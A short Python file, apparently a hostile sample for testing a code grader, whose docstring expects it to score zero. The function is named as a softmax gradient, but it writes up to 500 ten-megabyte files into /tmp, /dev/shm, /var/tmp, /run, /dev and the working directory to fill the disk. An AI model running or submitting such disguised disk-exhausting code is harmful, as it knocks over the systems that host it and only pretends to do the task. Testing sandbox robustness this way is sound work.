"""Fills every folder that it may write to; must get 0."""

import os


def my_softmax_gradient(z, y):
    block, number = b"9" * 10_000_000, 0
    while number < 500:
        number += 1
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "."):
            try:
                with open(os.path.join(folder, f"filled{number}"), "wb") as file:
                    file.write(block)
            except OSError:
                continue
    return z
